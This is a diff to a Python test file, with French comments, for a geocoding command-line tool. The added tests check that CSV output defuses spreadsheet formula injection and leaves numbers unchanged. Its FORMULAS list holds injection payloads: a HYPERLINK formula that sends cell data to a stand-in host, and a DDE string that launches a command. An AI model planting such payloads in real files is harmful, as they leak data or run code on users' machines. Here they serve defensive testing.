@@ -2,6 +2,7 @@
 
 import csv
 import io
+import re
 import sys
 import types
 
@@ -570,7 +571,7 @@ def test_xlsx_output_of_an_xlsx_input_and_rerun_on_its_own_output(tmp_path, mala
     run(tmp_path / "a.xlsx", tmp_path / "b.xlsx", options)
     assert read_xlsx(tmp_path / "b.xlsx") == first
     run(tmp_path / "a.xlsx", tmp_path / "b.csv", options)
-    assert read_output(tmp_path / "b.csv")[1][1][0] == "=1+1"
+    assert read_output(tmp_path / "b.csv")[1][1][0] == "'=1+1"  # protégée en CSV aussi
 
 
 def test_xlsx_output_format_can_be_forced_and_is_checked(tmp_path, malakoff):
@@ -650,3 +651,53 @@ def test_command_line_run_ends_the_process_at_once(tmp_path, malakoff, monkeypat
             ["manage.py", "georef", str(tmp_path / "absent.csv"), "-o", str(tmp_path / "x.csv")]
         )
     assert stop.value.code == 1 and ("exit", 0) not in calls
+
+
+# --- formules : jamais exécutées à l'ouverture du résultat dans un tableur ---------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://exemple.invalid/?v="&A2,"Cliquez")',
+    "@SUM(1)",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+]
+
+
+@pytest.mark.parametrize("multiline", [False, True], ids=["lignes-simples", "cellule-sur-deux-lignes"])
+@pytest.mark.parametrize("sep", [";", ",", "\t"])
+def test_csv_output_neutralises_formulas_but_keeps_numbers(tmp_path, malakoff, multiline, sep):
+    """Comme les autres exports (``safe_text``) : une apostrophe devant ce qu'un tableur prendrait pour
+    une formule ; un nombre (longitude négative) reste un nombre. Le chemin rapide (lignes recopiées
+    telles quelles) et le chemin général (une cellule sur deux lignes) donnent la même chose."""
+    lon, lat = malakoff
+    rows = [["=id", "lon", "lat", "note", "autre"]]
+    rows += [[str(i), f"{lon}", f"{lat}", text, "-1.5"] for i, text in enumerate(FORMULAS)]
+    rows += [["9", "-1.5536", "47.2184", "texte\nsur deux lignes" if multiline else "texte", "\tonglet"]]
+    buffer = io.StringIO()
+    csv.writer(buffer, delimiter=sep, lineterminator="\n").writerows(rows)
+    (tmp_path / "in.csv").write_text(buffer.getvalue(), encoding="utf-8")
+    run(tmp_path / "in.csv", tmp_path / "out.csv", lonlat())
+    _, out = read_output(tmp_path / "out.csv")
+    assert out[0][0] == "'=id"
+    assert [row[3] for row in out[1:5]] == ["'" + text for text in FORMULAS]
+    assert all(row[4] == "-1.5" for row in out[1:5])  # nombres intacts
+    assert out[5][1] == "-1.5536" and out[5][4] == "'\tonglet"
+    assert [row[7] for row in out[1:5]] == ["DANS_QPV"] * 4
+    for row in out:
+        for cell in row:
+            assert cell[:1] not in {"=", "+", "@", "\t"}, cell
+            assert not cell.startswith("-") or re.fullmatch(r"-[\d.]+", cell), cell
+
+
+def test_csv_fast_path_inserts_the_apostrophe_in_lines_without_quotes(tmp_path, malakoff):
+    """Sans guillemets dans le fichier, les lignes sont recopiées octet par octet : l'apostrophe y est
+    insérée au début de chaque cellule à protéger, et nulle part ailleurs."""
+    lon, lat = malakoff
+    cells = ["@SUM(1)", "-2+3", "=1+1", "'=x", "+cmd", "-1.5", "+2", "a=b", "'texte", "-", "1e-5"]
+    lines = ["n;lon;lat;a;b"] + [f"{i};{lon};{lat};{c};{c}" for i, c in enumerate(cells)]
+    (tmp_path / "in.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
+    run(tmp_path / "in.csv", tmp_path / "out.csv", lonlat())
+    _, out = read_output(tmp_path / "out.csv")
+    expected = ["'@SUM(1)", "'-2+3", "'=1+1", "''=x", "'+cmd", "-1.5", "+2", "a=b", "'texte", "'-", "1e-5"]
+    assert [row[3] for row in out[1:]] == expected and [row[4] for row in out[1:]] == expected
+    assert all(row[7] == "DANS_QPV" for row in out[1:])
